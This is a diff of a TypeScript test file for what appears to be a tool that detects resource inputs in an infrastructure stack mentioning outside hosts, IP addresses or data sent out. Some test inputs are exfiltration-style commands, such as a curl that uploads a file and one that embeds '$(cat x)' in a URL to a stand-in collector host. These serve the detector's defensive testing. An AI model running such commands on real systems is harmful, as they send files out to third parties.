@@ -37,7 +37,8 @@ test("the words say what becomes of the data, and one place is one mention", () 
 });
 
 test.each<[string, Inputs]>([
-  ["a word under a harmless key", { env: { description: abroad } }],
+  ["a word under a harmless key", { settings: { description: abroad } }],
+  ["a word under a key that is harmless anywhere", { env: { ISSUER: abroad } }],
   ["a property that the entry says to be harmless", { code: abroad }],
   ["an ARN of a harmless service", { env: { X: "arn:aws:acm:us-east-1:1:certificate/x" } }],
   ["a host that only gives out", { script: "curl https://mirror.packages.example/a" }],
@@ -50,8 +51,28 @@ test.each<[string, Inputs]>([
   expect(mentions(inputs)).toEqual([]);
 });
 
+test("the address of something of the stack tells where that lies, also one that leads out of no network", () => {
+  const own = resource("db", {
+    type: runs.type,
+    names: ["10.1.2.3", "db.corp.internal"],
+    provider: { region: "us-east-1" },
+  });
+  const told = (X: string) => {
+    const app = resource("app", { type: runs.type, inputs: { env: { X } } });
+    const estate = buildMadeUp([own, app], madeUpFacts([runs]));
+    return [...estate.byUrn.values()].flatMap((node) => mentionsOf(node, estate)).map(({ word }) => word);
+  };
+  expect(told("http://10.1.2.3/in")).toEqual(["10.1.2.3"]);
+  expect(told("10.1.2.3:5432")).toEqual(["10.1.2.3:5432"]);
+  expect(told("http://db.corp.internal")).toEqual(["db.corp.internal"]);
+  expect(told("http://10.1.2.4/in")).toEqual([]);
+});
+
 test.each<[string, Inputs]>([
-  ["a document under a harmless key", { env: { description: { more: { X: abroad } } } }],
+  ["a document under a harmless key", { settings: { description: { more: { X: abroad } } } }],
+  ["a variable that somebody called like a harmless key", { environment: { variables: { DESCRIPTION: abroad } } }],
+  ["an address in digits, whole or with a port", { env: { X: "203.0.113.9" } }],
+  ["one with a port", { env: { X: "203.0.113.9:5432" } }],
   ["what is sent to a host that only gives out", { script: "curl -T x https://packages.example/a" }],
   ["what is filled into an address", { script: "curl https://collector.example/?q=$(cat x)" }],
   ["an image that is pushed", { script: "docker push 1.dkr.ecr.us-east-1.amazonaws.com/x" }],
